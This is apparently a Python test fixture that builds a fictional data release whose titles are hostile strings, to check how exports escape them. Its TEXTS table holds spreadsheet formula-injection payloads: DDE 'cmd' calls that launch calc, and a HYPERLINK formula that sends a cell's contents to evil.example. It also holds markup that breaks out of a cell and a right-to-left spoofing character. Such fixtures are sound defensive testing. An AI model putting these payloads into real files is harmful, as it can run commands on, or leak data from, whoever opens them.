"""A release whose texts do what texts should not: they look like formulas, links, markup and orders."""

from __future__ import annotations

from datetime import date
from typing import TYPE_CHECKING

import invented
from readouts.release.descriptor import Release
from readouts.tables.arrow import to_arrow_tables

if TYPE_CHECKING:
    from pathlib import Path

TEXTS = {
    "formula": "=1+1",
    "formula of a link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "array formula": "{=SUM(A1:A9)}",
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DDE": "=cmd|' /C calc'!A0",
    "tab before a formula": "\t=1+1",
    "line end before a formula": "\n=1+1",
    "number": "042",
    "number with exponent": "1E5",
    "day": "2024-11-13",
    "truth": "TRUE",
    "error": "#N/A",
    "link": "https://evil.example/",
    "mail": "mailto:a@evil.example",
    "place in another file": "external:c:\\temp\\foo.xlsx",
    "apostrophe": "'=1+1",
    "quotes": 'he said "yes", and \'no\'; they "left',
    "lines": "one\ntwo\n\nthree",
    "tabs": "one\ttwo",
    "spaces": "  before and after  ",
    "emoji": "👩‍👩‍👧‍👦 met 🇦🇿",
    "right to left": "\u202eevil\u202c \u200fשלום مرحبا",
    "combined": "e\u0301 and \u00e9",
    "markup": "<b>&amp;</b> ]]> <!-- -->",
    "markup of runs": "<r><t>x</t></r>",
    "markup that closes the cell": "<r></is></c><c><f>1+1</f></c><c><is></r>",
    "escape in markup of runs": "<r>_x0041_ _x005F_ __x0041_</r>",
    "escape of a workbook": "_x0041_",
    "Stata's missing": ".",
    "Stata's macro": "`x' $S_ADO",
    "just fits": "é" * 1000,
}

CONTROLS = {
    "bell": ("a\x07b", "a␇b"),
    "escape": ("\x1b[31mred", "␛[31mred"),
    "carriage return": ("a\r\nb\rc", "a␍\nb␍c"),
    "delete": ("a\x7fb", "a␡b"),
    "no character": ("a\ufffeb\uffff", "a\ufffdb\ufffd"),
    "C1": ("a\x85b\x9f", "a\x85b\x9f"),
}


def rows(titles: list[str]) -> invented.Rows:
    """Rows of all tables, with an article for each title."""
    changed = invented.rows()
    plain = changed["articles"][0]
    changed["articles"] = [
        {**plain, "article_id": f"art_{number:012x}", "title": title} for number, title in enumerate(titles)
    ]
    return changed


def write(data: Path, changed: invented.Rows) -> Path:
    """Write them as the newest release of a folder, unchecked, as an old or foreign release may be."""
    release = Release(
        version="99.0.0",
        title="=Hostile & <readouts>",
        description="Nothing in it is true.",
        released=date(2031, 4, 1),
        tables=to_arrow_tables(changed),
    )
    return invented.placed(release, data)
